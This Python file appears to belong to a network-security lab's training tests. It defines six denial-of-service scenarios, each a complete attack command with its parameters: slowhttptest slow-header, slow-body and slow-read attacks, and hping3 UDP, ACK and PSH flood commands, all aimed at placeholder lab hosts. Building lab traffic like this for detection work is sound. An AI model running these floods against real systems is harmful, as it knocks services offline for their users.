"""Denial of service: connections that never end, and packets without pause or connection."""

from tests.lab.scenario import Scenario
from tests.lab.training._step import Named, attack, scenario


def _flood(tool: str, actor: str, victim: str, command: str, seconds: float = 40) -> Scenario:
    return scenario(attack("flood", tool, actor, victim, command, seconds))


_SLOW = "slowhttptest -c 150 -r 20 -l 30"
SCENARIOS: dict[str, Named] = {
    "flood_slow_headers": (
        "slowhttptest never ends its requests' headers.",
        _flood("slowhttptest", "camera", "nas", f"{_SLOW} -H -i 5 -u http://{{nas}}/t3.html"),
    ),
    "flood_slow_body": (
        "slowhttptest never ends its requests' bodies.",
        _flood(
            "slowhttptest", "outsider", "nas", f"{_SLOW} -B -i 4 -s 8192 -u http://{{nas}}/beat"
        ),
    ),
    "flood_slow_read": (
        "slowhttptest reads its answers a few bytes at a time.",
        _flood(
            "slowhttptest",
            "laptop",
            "web",
            f"{_SLOW} -X -w 10 -y 20 -n 3 -z 8 -u http://{{web}}/i7.webp",
        ),
    ),
    "flood_hping_udp_port": (
        "hping3 sends large datagrams from one port to one port.",
        _flood(
            "hping3",
            "phone",
            "web",
            "hping3 -q -n --udp -k -s 5060 -p 53 -d 900 -i u800 -c 12000 {web}",
            15,
        ),
    ),
    "flood_hping_ack": (
        "hping3 sends acknowledgements that belong to no connection.",
        _flood("hping3", "camera", "nas", "hping3 -q -n -A -p 80 -i u1500 -c 5000 {nas}", 15),
    ),
    "flood_hping_push": (
        "hping3 sends data that belongs to no connection, from one port.",
        _flood(
            "hping3",
            "outsider",
            "nas",
            "hping3 -q -n -PA -k -s 4444 -p 80 -d 200 -i u1500 -c 5000 {nas}",
            15,
        ),
    ),
}
